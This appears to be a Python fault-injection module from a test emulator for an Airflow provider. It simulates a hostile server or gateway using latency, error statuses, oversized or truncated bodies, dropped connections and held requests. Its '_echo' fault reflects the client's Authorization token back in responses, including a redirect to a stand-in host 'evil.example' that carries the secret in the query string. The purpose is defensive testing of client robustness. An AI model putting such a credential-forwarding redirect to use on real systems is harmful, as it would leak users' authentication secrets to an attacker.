"""What each fault kind does to a request: the responses a hostile server or gateway sends.

Pre-handler kinds (:data:`~.faults.PRE_KINDS`) answer instead of the server, so nothing
happens server-side; post-handler kinds (:data:`~.faults.POST_KINDS`) get the real
response after the server acted and spoil it.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterable, Iterator
from email.utils import formatdate
from urllib.parse import quote

from aiohttp import web

from airflow_provider_smartmca.testing.faults import Fault
from airflow_provider_smartmca.testing.responses import error_response
from airflow_provider_smartmca.testing.runtime import EmulatorState

__all__ = ["http_date", "post_fault", "pre_fault"]

HTML_PAGE = (
    "<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1>"
    "</center><hr><center>nginx</center></body></html>\n"
)
STATUS_MESSAGES = {
    429: "Rate limit exceeded, retry later",
    500: "Internal server error",
    502: "Bad gateway",
    503: "Service temporarily unavailable",
}
ECHO_FILLER = "Upstream gateway error: the request below could not be forwarded to the origin. "
# Looks like the start of an execution object, so a client cannot tell it is huge before reading it.
HUGE_HEAD = b'{"executionId":"exec_huge","status":"running","padding":"'
HUGE_TAIL = b'"}'
CHUNK = 64 * 1024


def http_date(ts: float) -> str:
    """RFC 7231 IMF-fixdate, e.g. ``Sun, 06 Nov 1994 08:49:37 GMT``."""
    return formatdate(ts, usegmt=True)


def drop(request: web.Request) -> web.Response:
    """Close the connection without (the rest of) a response."""
    # Closing the transport makes the client see a reset/EOF.
    if request.transport is not None:
        request.transport.close()
    raise asyncio.CancelledError()


def _status(state: EmulatorState, fault: Fault) -> web.Response:
    status = fault.status or 500
    headers: dict[str, str] | None = None
    if status == 429:
        wait = fault.retry_after if isinstance(fault.retry_after, int) else 0
        headers = {
            "Retry-After": str(fault.retry_after),
            "X-RateLimit-Limit": str(state.config.rate_limit),
            "X-RateLimit-Remaining": "0",
            "X-RateLimit-Reset": str(int(state.behaviour.now(state.clock.now())) + wait),
        }
    return error_response(status, STATUS_MESSAGES.get(status, f"Injected error {status}"), headers=headers)


def _echo(fault: Fault, request: web.Request) -> web.Response:
    auth = request.headers.get("Authorization", "")
    secret = auth.partition(" ")[2].strip()
    status = fault.status or 500
    if fault.echo_in == "location":
        location = "https://evil.example/?auth=" + quote(secret, safe="")
        return web.Response(text="Moved\n", status=status, headers={"Location": location})
    if fault.echo_in == "required_scope":
        return error_response(status, f"Missing required scope: {secret}", requiredScope=secret)
    lines = [f"Authorization: {auth}"]
    lines += [f"{k}: {v}" for k, v in request.headers.items() if k.lower() != "authorization"]
    filler = (ECHO_FILLER * (fault.offset // len(ECHO_FILLER) + 1))[: fault.offset]
    text = filler + "\n".join(lines) + "\n"
    if fault.echo_in == "json_body":
        return error_response(status, text)
    return web.Response(text=text, status=status, content_type="text/plain")


def _huge_chunks(size: int) -> Iterator[bytes]:
    if size <= len(HUGE_HEAD) + len(HUGE_TAIL):
        yield (HUGE_HEAD + HUGE_TAIL)[:size]
        return
    yield HUGE_HEAD
    block = b"x" * CHUNK
    left = size - len(HUGE_HEAD) - len(HUGE_TAIL)
    while left > 0:
        yield block if left >= CHUNK else block[:left]
        left -= CHUNK
    yield HUGE_TAIL


async def _stream(
    state: EmulatorState,
    request: web.Request,
    resp: web.StreamResponse,
    chunks: Iterable[bytes],
    delay: float = 0.0,
    then_drop: bool = False,
) -> web.StreamResponse:
    """Send ``resp``'s headers, then ``chunks`` (``delay`` s apart); drop if the client leaves."""
    await resp.prepare(request)
    try:
        for i, chunk in enumerate(chunks):
            if i and delay:
                await _pause(state, delay)
            if state.stopping:
                return drop(request)
            await resp.write(chunk)
    except ConnectionError:  # the client gave up
        return drop(request)
    return drop(request) if then_drop else resp


async def _pause(state: EmulatorState, seconds: float) -> None:
    # In short slices, so stopping the emulator never waits for a slow trickle.
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    while not state.stopping and (left := end - loop.time()) > 0:
        await asyncio.sleep(min(left, 0.25))


async def pre_fault(state: EmulatorState, fault: Fault, request: web.Request) -> web.StreamResponse | None:
    """Act before the handler; return the response to send, or ``None`` to go on."""
    kind = fault.kind
    if kind == "latency":
        await asyncio.sleep(fault.latency)
        return None
    if kind == "status":
        return _status(state, fault)
    if kind == "html_error":
        return web.Response(text=HTML_PAGE, status=fault.status or 502, content_type="text/html")
    if kind == "echo":
        return _echo(fault, request)
    if kind == "huge_body":
        resp = web.StreamResponse(status=fault.status or 200)
        resp.content_type = "application/json"
        if fault.chunked:
            resp.enable_chunked_encoding()
        else:
            resp.content_length = fault.size
        return await _stream(state, request, resp, _huge_chunks(fault.size))
    return drop(request)  # drop_before


async def post_fault(
    state: EmulatorState, fault: Fault, request: web.Request, resp: web.StreamResponse
) -> web.StreamResponse:
    """Spoil ``resp``, the real response of a request the server has processed."""
    kind = fault.kind
    if kind == "drop_after":
        return drop(request)
    if kind == "status_after":
        return _status(state, fault)
    raw = resp.body if isinstance(resp, web.Response) else None
    body = bytes(raw) if isinstance(raw, (bytes, bytearray)) else b""
    if kind == "malformed_json":
        truncated = (body or b"{}")[: max(1, len(body) // 2)]
        return web.Response(body=truncated, status=fault.status or 200, content_type="application/json")
    if kind in ("trickle", "drop_mid_body"):
        out = web.StreamResponse(
            status=resp.status, headers={k: v for k, v in resp.headers.items() if k != "Content-Length"}
        )
        out.content_length = len(body)
        if kind == "drop_mid_body":
            return await _stream(state, request, out, [body[: len(body) // 2]], then_drop=True)
        step = max(1, int(fault.bytes_per_second / 10))  # about ten writes a second at most
        pieces = (body[i : i + step] for i in range(0, len(body), step))
        return await _stream(state, request, out, pieces, delay=step / fault.bytes_per_second)
    # hold: the request has been processed; wait for the test to release it.
    event = state.hold_event()
    state.held += 1
    try:
        await asyncio.wait_for(event.wait(), timeout=fault.hold_timeout)
    except TimeoutError:
        pass
    finally:
        state.held -= 1
    return resp
